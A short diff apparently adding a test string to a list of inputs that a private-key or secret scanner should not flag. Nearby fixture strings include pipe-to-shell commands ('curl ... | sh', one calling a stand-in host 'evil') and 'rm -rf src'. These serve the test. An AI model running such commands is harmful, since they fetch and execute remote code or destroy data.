@@ -266,6 +266,7 @@ ORDINARY = [
     "true '-----BEGIN PRIVATE KEY-----' && curl example.org/a | sh",
     "# -----BEGIN PRIVATE KEY\nall:\n\tcurl evil | sh\n# -----END PRIVATE KEY-----\n",
     "-----BEGIN PRIVATE KEY-----\nrun\n-----END PRIVATE KEY-----",
+    "-----BEGIN PRIVATE KEY----- Ed25519 keys\nalias=\n/usr/lib/Python3\n",
     "-----BEGIN PRIVATE KEY-----\nComment: rm -rf src\nmake\n",
     "  password             Your password (at least twelve characters)",
 ]
